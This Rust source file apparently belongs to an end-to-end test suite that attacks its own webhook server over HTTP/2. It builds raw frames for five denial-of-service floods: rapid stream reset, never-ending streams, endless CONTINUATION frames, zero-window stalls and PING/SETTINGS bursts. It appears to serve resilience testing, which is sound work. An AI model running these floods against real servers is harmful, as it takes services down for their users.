//! What a neighbour can do with HTTP/2: frames by hand, as no client would send them.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use tokenscope_e2e::shapes;
use tokio::io::{AsyncReadExt, AsyncWriteExt, WriteHalf, split};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use crate::attack::{Attack, Round};
use crate::field::{Field, HOSTILE};
use crate::wire::connect;

// RFC 9113 section 6: types of frames and their flags.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Identifier of SETTINGS_INITIAL_WINDOW_SIZE (section 6.5.2).
const INITIAL_WINDOW_SIZE: u16 = 4;

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        Attack::new("", "streams_that_are_opened_and_reset_at_once", 2, |field, round| {
            Box::pin(rapid_reset(field, round))
        }),
        Attack::new("", "two_hundred_and_fifty_streams_that_never_end", 6, |field, round| {
            Box::pin(endless_streams(field, round))
        }),
        Attack::new("", "headers_continued_without_end", 2, |field, round| {
            Box::pin(continuations(field, round))
        }),
        Attack::new("", "answers_held_back_by_a_window_of_zero", 4, |field, round| {
            Box::pin(zero_window(field, round))
        })
        .beside_large_pods(),
        Attack::new("", "pings_and_settings_in_floods", 2, |field, round| {
            Box::pin(control_frames(field, round))
        }),
    ]
}

/// An HTTP/2 connection; what the server sends is read and forgotten.
struct Connection(WriteHalf<TlsStream<TcpStream>>);

impl Connection {
    async fn open(field: &Field, window: u32) -> Result<Self> {
        let (mut read, write) = split(connect(field, b"h2").await?);
        tokio::spawn(async move {
            let mut sink = vec![0; 16 << 10];
            while matches!(read.read(&mut sink).await, Ok(length) if length > 0) {}
        });
        let mut this = Self(write);
        let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        let mut setting = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
        setting.extend(window.to_be_bytes());
        hello.extend(frame(SETTINGS, 0, 0, &setting));
        hello.extend(frame(SETTINGS, 1, 0, &[]));
        this.send(&hello).await?;
        Ok(this)
    }

    async fn send(&mut self, bytes: &[u8]) -> Result<()> {
        let write = async {
            self.0.write_all(bytes).await?;
            self.0.flush().await
        };
        Ok(tokio::time::timeout(Duration::from_secs(3), write).await??)
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The headers of a POST of a review, without any table (RFC 7541 section 6).
fn headers() -> Vec<u8> {
    let mut block = vec![0x83, 0x87]; // :method POST, :scheme https
    let mut literal = |index: &[u8], value: &str| {
        block.extend(index);
        block.push(value.len() as u8);
        block.extend(value.as_bytes());
    };
    literal(&[0x04], "/mutate?timeout=2s"); // :path
    literal(&[0x01], "webhook"); // :authority
    literal(&[0x0f, 0x10], "application/json"); // content-type, 31
    block
}

async fn rapid_reset(field: Arc<Field>, round: Round) -> Result<()> {
    while round.goes_on() {
        let Ok(mut connection) = Connection::open(&field, 1 << 20).await else {
            round.count("not accepted");
            round.pause(50).await;
            continue;
        };
        let mut stream = 1;
        while round.goes_on() {
            let mut burst = Vec::new();
            for _ in 0..100 {
                burst.extend(frame(HEADERS, END_HEADERS, stream, &headers()));
                burst.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                stream += 2;
            }
            if connection.send(&burst).await.is_err() {
                round.count("closed");
                break;
            }
            round.count("100 streams");
            round.pause(5).await;
        }
    }
    Ok(())
}

async fn endless_streams(field: Arc<Field>, round: Round) -> Result<()> {
    let body = shapes::review(HOSTILE, &shapes::containers(HOSTILE, "endless", 100));
    let half = &body.as_bytes()[..body.len() / 2];
    while round.goes_on() {
        let Ok(mut connection) = Connection::open(&field, 1 << 20).await else {
            round.count("not accepted");
            round.pause(50).await;
            continue;
        };
        for number in 0..250 {
            let stream = number * 2 + 1;
            let mut begun = frame(HEADERS, END_HEADERS, stream, &headers());
            // A flow-control window of 64 KiB for the whole connection lets each have a little.
            begun.extend(frame(DATA, 0, stream, &half[..half.len().min(200)]));
            let sent = connection.send(&begun).await.is_ok();
            round.count(if sent { "stream" } else { "closed" });
            if !sent {
                break;
            }
        }
        round.pause(2500).await;
    }
    Ok(())
}

async fn continuations(field: Arc<Field>, round: Round) -> Result<()> {
    // A literal header without a table: name x, value of 100 bytes.
    let mut header = vec![0x00, 1, b'x', 100];
    header.extend([b'v'; 100]);
    let block = header.repeat(150);
    while round.goes_on() {
        let Ok(mut connection) = Connection::open(&field, 1 << 20).await else {
            round.count("not accepted");
            round.pause(50).await;
            continue;
        };
        if connection.send(&frame(HEADERS, 0, 1, &headers())).await.is_err() {
            continue;
        }
        while round.goes_on() {
            if connection.send(&frame(CONTINUATION, 0, 1, &block)).await.is_err() {
                round.count("closed");
                break;
            }
            round.count("frame");
            round.pause(1).await;
        }
    }
    Ok(())
}

/// Every answer is large, and the server must not send a byte of any.
async fn zero_window(field: Arc<Field>, round: Round) -> Result<()> {
    /// Their patch has about 64 KiB. A flood of sound reviews is not what is tried, so the pause lets the processors rest.
    const CONTAINERS: usize = 64;
    let body = shapes::review(HOSTILE, &shapes::containers(HOSTILE, "window", CONTAINERS));
    while round.goes_on() {
        let Ok(mut connection) = Connection::open(&field, 0).await else {
            round.count("not accepted");
            round.pause(50).await;
            continue;
        };
        for number in 0..240 {
            let stream = number * 2 + 1;
            let mut request = frame(HEADERS, END_HEADERS, stream, &headers());
            request.extend(frame(DATA, END_STREAM, stream, body.as_bytes()));
            if connection.send(&request).await.is_err() {
                round.count("closed");
                break;
            }
            round.count("request");
            round.pause(25).await;
        }
        // Only the other connections' time goes by: this one keeps what it holds.
        round.pause(1000).await;
    }
    Ok(())
}

async fn control_frames(field: Arc<Field>, round: Round) -> Result<()> {
    let ping = frame(PING, 0, 0, &[7; 8]);
    let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]);
    let burst = [ping, settings].concat().repeat(200);
    while round.goes_on() {
        let Ok(mut connection) = Connection::open(&field, 1 << 20).await else {
            round.count("not accepted");
            round.pause(50).await;
            continue;
        };
        while round.goes_on() {
            if connection.send(&burst).await.is_err() {
                round.count("closed");
                break;
            }
            round.count("400 frames");
            round.pause(5).await;
        }
    }
    Ok(())
}
